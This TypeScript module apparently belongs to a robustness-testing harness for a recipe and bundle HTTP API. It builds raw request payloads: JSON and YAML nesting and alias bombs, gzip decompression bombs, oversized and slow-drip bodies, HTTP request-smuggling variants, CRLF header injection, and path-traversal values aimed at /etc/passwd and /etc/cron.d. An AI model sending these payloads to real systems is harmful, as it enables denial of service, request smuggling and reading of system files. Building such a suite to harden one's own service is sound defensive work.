/** Requests as bytes, for attackers that no client library would do the writing for. */
import { gzipSync } from "node:zlib";
import type { Part, Payload } from "./attack.ts";

const MIB = 1024 * 1024;
const HOST = "Host: a\r\nConnection: close\r\n";
const encoder = new TextEncoder();

/** A GET request; `headers` are whole lines. */
export function get(target: string, headers = ""): string {
  return `GET ${target} HTTP/1.1\r\n${HOST}${headers}\r\n`;
}

/** A POST request with a body of stated length. */
export function post(target: string, body: string | Uint8Array, headers = ""): Uint8Array {
  const content = typeof body === "string" ? encoder.encode(body) : body;
  const head = encoder.encode(
    `POST ${target} HTTP/1.1\r\n${HOST}${headers}Content-Length: ${content.length}\r\n\r\n`,
  );
  const out = new Uint8Array(head.length + content.length);
  out.set(head);
  out.set(content, head.length);
  return out;
}

/** Each of some payloads in turn. Those that cost something to make are made once. */
export function inTurn(payloads: readonly (() => string | Uint8Array)[]): Payload {
  const made: (string | Uint8Array)[] = [];
  return (n) => {
    const i = n % payloads.length;
    return made[i] ??= payloads[i]!();
  };
}

/** A head at once, then `drop` again and again, `pause` milliseconds apart. */
export function dripped(head: string, drop: string, pause: number): Payload {
  const drops: Part[] = Array.from({ length: 400 }, () => ({ after: pause, bytes: drop }));
  return () => [{ after: 0, bytes: head }, ...drops];
}

const JSON_TYPE = "Content-Type: application/json\r\n";
const YAML_TYPE = "Content-Type: application/x-yaml\r\n";

/** Documents that nest or grow beyond reason, to every route that reads documents. */
export const DOCUMENT_BOMBS: readonly (() => string | Uint8Array)[] = [
  () => post("/v1/recipe", "[".repeat(MIB - 10), JSON_TYPE),
  () => post("/v1/query", '{"a":'.repeat(150_000) + "1" + "}".repeat(150_000), JSON_TYPE),
  () => post("/v1/recipe", `{"spec":[${"0,".repeat(500_000)}0]}`, JSON_TYPE),
  () => post("/v1/recipe", `{"spec":{"service":"${"e".repeat(MIB - 100)}"}}`, JSON_TYPE),
  () => post("/v1/recipe", `{"spec":{"nodes":${"9".repeat(MIB - 100)}}}`, JSON_TYPE),
  () => post("/v1/recipe", `{"x":"${"a".repeat(32_000)}"}`, JSON_TYPE),
  () => post("/v1/recipe", `[${"[],".repeat(10_000)}[]]`, JSON_TYPE),
  () => post("/v1/recipe", `{${keys(2000, ":1,")}"z":1}`, JSON_TYPE),
  () => post("/v1/recipe", "[".repeat(20_000), YAML_TYPE),
  () => post("/v1/recipe", "- ".repeat(2000) + "a", YAML_TYPE),
  () => post("/v1/recipe", "- ".repeat(200_000) + "a", YAML_TYPE),
  () => post("/v1/recipe", aliases(), YAML_TYPE),
  () => post("/v1/query", aliases(), YAML_TYPE),
  () => post("/v1/recipe", "a: &a [*a]\n", YAML_TYPE),
  () => post("/v1/recipe", "a: b\n" + "  # x\n".repeat(150_000), YAML_TYPE),
  () => post("/v1/recipe", lines(60_000, (i) => `key${i}: value`), YAML_TYPE),
  () => post("/v1/recipe", "a: " + '"\\x41'.repeat(700), YAML_TYPE),
  () => post("/v1/recipe", "? ".repeat(2000), YAML_TYPE),
  () => post("/v1/recipe", "? ".repeat(400_000), YAML_TYPE),
  () => post("/v1/recipe", "{a: ".repeat(1000), YAML_TYPE),
  () => post("/v1/recipe", "a: " + "!".repeat(4000), YAML_TYPE),
  () => post("/v1/recipe", "a: |\n" + " \n".repeat(1900), YAML_TYPE),
];

/** Recipes that no cell has, posted to be bundled. */
export function recipeBombs(recipe: string): readonly (() => string | Uint8Array)[] {
  const real = JSON.parse(recipe);
  const [ref] = real.componentRefs;
  const bundle = (body: unknown, query = "") =>
    post(`/v1/bundle${query}`, JSON.stringify(body), JSON_TYPE);
  const named = (count: number) => Array.from({ length: count }, (_, i) => ({ name: `c${i}` }));
  const nested = (depth: number) => '{"a":'.repeat(depth) + "1" + "}".repeat(depth);
  const withRefs = (refs: unknown[]) => ({ ...real, componentRefs: refs, deploymentOrder: [] });
  return [
    () => post("/v1/bundle", "[".repeat(8 * MIB - 10), JSON_TYPE),
    () => post("/v1/bundle", nested(1_000_000), JSON_TYPE),
    () => post("/v1/bundle", `{"x":"${"a".repeat(8 * MIB - 20)}"}`, JSON_TYPE),
    () => bundle({ ...real, componentRefs: named(400_000), deploymentOrder: [] }),
    () => post("/v1/bundle", `{"componentRefs":[${"{},".repeat(1_000_000)}{}]}`, JSON_TYPE),
    () => bundle(withRefs(named(1000))),
    () => bundle(withRefs(Array(1000).fill(ref))),
    () => bundle(withRefs([{ ...ref, name: "a".repeat(7 * MIB) }])),
    () => bundle(withRefs([{ ...ref, name: "../../etc/cron.d/x" }])),
    () => bundle(withRefs([{ ...ref, valuesFile: "../../../etc/passwd" }])),
    () => bundle(withRefs([{ ...ref, version: "1".repeat(4 * MIB) }])),
    () => bundle(withRefs([{ ...ref, dependencyRefs: named(100_000).map(({ name }) => name) }])),
    () => bundle({ ...real, constraints: named(100_000) }),
    () => post("/v1/bundle", withOverrides(real, nested(1000)), JSON_TYPE),
    () => post("/v1/bundle", withOverrides(real, `{${keys(300_000, ":1,")}"z":1}`), JSON_TYPE),
    () => post("/v1/bundle", withOverrides(real, `"${"\\u2028".repeat(MIB)}"`), JSON_TYPE),
    () => bundle(real, `?${parameters(1200, (i) => `set=gpuoperator:a.b${i}.c=${i}`)}`),
    () => bundle(real, `?${parameters(1500, (i) => `dynamic=gpuoperator:a${i}.b`)}`),
    () => bundle(real, `?set=gpuoperator:${"a.".repeat(25_000)}b=1`),
    () => bundle(real, `?deployer=${"x".repeat(50_000)}`),
    () => bundle(real, `?${parameters(1500, (i) => `system-node-selector=a${i}=b`)}`),
    () =>
      bundle(real, `?${parameters(1500, (i) => `accelerated-node-toleration=a${i}=b:NoExecute`)}`),
    () => bundle(real, `?bundlers=${"gpu-operator,".repeat(4000)}gpu-operator`),
  ];
}

/** A recipe whose first component has the given JSON text among its overrides. */
function withOverrides(real: Record<string, unknown>, json: string): string {
  const [ref, ...others] = real.componentRefs as Record<string, unknown>[];
  const marked = { ...real, componentRefs: [{ ...ref, overrides: { a: "MARK" } }, ...others] };
  return JSON.stringify(marked).replace('"MARK"', () => json);
}

/** Bodies of more bytes than are taken. */
export const OVERSIZED: readonly (() => Uint8Array)[] = [
  () => post("/v1/bundle", new Uint8Array(9 * MIB)),
  () => post("/v1/recipe", new Uint8Array(2 * MIB)),
];

/** Bodies of as many bytes as are taken, and nothing in them. */
export const LARGE: readonly (() => Uint8Array)[] = [
  () => post("/v1/bundle", new Uint8Array(8 * MIB).fill(32)),
];

/** A little that would unpack to a lot, with and without saying so. */
export const PACKED: readonly (() => string | Uint8Array)[] = ["/v1/recipe", "/v1/bundle"]
  .flatMap((target) => [
    () => post(target, packed(), `${JSON_TYPE}Content-Encoding: gzip\r\n`),
    () => post(target, packed(), JSON_TYPE),
  ]);

function packed(): Uint8Array {
  return gzipSync(new Uint8Array(50 * MIB));
}

/** Requests that two readers might read differently, each with another one hidden behind it. */
export const SMUGGLED: readonly (() => string)[] = [
  "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
  "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
  "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
  "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
  "Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n",
  "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
  "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
  "X: a\r\n Transfer-Encoding: chunked\r\n\r\n",
  "Content-Length: -1\r\n\r\n",
  "Content-Length: +1\r\n\r\na",
  "Content-Length: 0x1\r\n\r\na",
  "Content-Length: 1, 1\r\n\r\na",
  "Content-Length: 18446744073709551617\r\n\r\na",
  "Content-Length: 9007199254740993\r\n\r\na",
  "Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
  "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n\r\n",
  "Content-Length: 0\n\n",
  "X: a\0b\r\n\r\n",
  "Host: b\r\n\r\n",
].map((rest) => () =>
  `POST /v1/recipe HTTP/1.1\r\nHost: a\r\n${rest}GET /v1/recipe?service=eks HTTP/1.1\r\n` +
  "Host: hidden\r\n\r\n"
);

/** Requests that are odd in one line or header. */
export const ODDITIES: readonly (() => string | Uint8Array)[] = [
  ...["FOO", "get", "X-Y", "PROPFIND", "A".repeat(60)].map((method) => () =>
    `${method} /v1/recipe HTTP/1.1\r\n${HOST}\r\n`
  ),
  ...["//v1/recipe", "/v1/../v1/recipe", "/..%2f..%2fetc/passwd", `/${"a/".repeat(30_000)}`]
    .map((path) => () => get(path)),
  ...["service=%ff%fe", `nodes=${"9".repeat(50_000)}`, `service=${"%2".repeat(20_000)}`]
    .map((query) => () => get(`/v1/recipe?${query}`)),
  () => get(`/v1/recipe?${parameters(8000, () => "service=eks")}`),
  () => get(`/v1/recipe?${parameters(8000, (i) => `a${i}=1`)}`),
  () => get(`/v1/recipe?${"&".repeat(60_000)}`),
  () => get(`/v1/recipe?service=eks&${"+".repeat(60_000)}`),
  () => get(`/v1/query?service=eks&selector=${"a.".repeat(30_000)}`),
  () => get(`/v1/query?service=eks&selector=${"%22".repeat(20_000)}`),
  () => get("/", `X-Request-Id: ${"a".repeat(60_000)}\r\n`),
  () => get("/", "X-Request-Id: a\rSet-Cookie: b\r\n"),
  () => get("/v1/recipe?service=eks", `Accept-Encoding: ${",".repeat(60_000)}\r\n`),
  () => get("/v1/recipe?service=eks", `Accept-Encoding: gzip${";q=0".repeat(15_000)}\r\n`),
  () => get("/v1/recipe?service=eks", `If-None-Match: ${"W/,".repeat(20_000)}\r\n`),
  () => get("/v1/recipe?service=eks", `If-None-Match: ${'"a" '.repeat(15_000)}\r\n`),
  () => get("/metrics", `Accept-Encoding: ${" ".repeat(30_000)}gzip\r\n`),
  () => post("/v1/recipe", "{}", `Content-Type: ${"application/".repeat(5000)}\r\n`),
  () => post("/v1/recipe", "{}", `Content-Encoding: ${"identity,".repeat(5000)}\r\n`),
  () => get("/", parameters(1900, (i) => `X-${i}: a\r\n`).replaceAll("&", "")),
  () => get("/", "a:\r\n".repeat(15_000)),
  () => get("/", "Cookie: a=b\r\n".repeat(4000)),
  () => `GET /health\r\n\r\n`,
  () => `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
  () => `CONNECT a:443 HTTP/1.1\r\n${HOST}\r\n`,
  () =>
    get("/health", "Upgrade: websocket\r\nSec-WebSocket-Key: a\r\n").replace("close", "Upgrade"),
  () => get(`http://${"a".repeat(50_000)}/health`),
  () => `POST /v1/recipe HTTP/1.1\r\n${HOST}Expect: 100-continue\r\nContent-Length: 9\r\n\r\n`,
  () => `POST /v1/recipe HTTP/1.1\r\n${HOST}Expect: tea\r\nContent-Length: 0\r\n\r\n`,
  () => "\r\n".repeat(30_000),
  () => new Uint8Array(60_000),
  () => new Uint8Array(60_000).map((_, i) => (i * 7919) & 0xff),
];

/** Bodies in pieces that carry more wrapping than content. */
export const WRAPPED: readonly (() => string)[] = [
  chunked("1;" + "a=b;".repeat(3000) + "\r\n{\r\n"),
  chunked(("1;" + "a".repeat(5000) + "\r\n \r\n").repeat(100)),
  chunked("1\r\n \r\n".repeat(100_000)),
  chunked("2\r\n{}\r\n", parameters(1500, (i) => `X-${i}: a\r\n`).replaceAll("&", "")),
  chunked("0".repeat(50_000) + "2\r\n{}\r\n"),
];

function chunked(chunks: string, trailers = ""): () => string {
  return () =>
    `POST /v1/recipe HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n${chunks}` +
    `0\r\n${trailers}\r\n`;
}

function aliases(): string {
  return "a0: &a0 [x,x,x,x,x,x,x,x,x]\n" +
    lines(30, (i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(",")}]`);
}

function keys(count: number, rest: string): string {
  return Array.from({ length: count }, (_, i) => `"key${i}"${rest}`).join("");
}

function lines(count: number, line: (i: number) => string): string {
  return Array.from({ length: count }, (_, i) => line(i)).join("\n");
}

function parameters(count: number, parameter: (i: number) => string): string {
  return Array.from({ length: count }, (_, i) => parameter(i)).join("&");
}
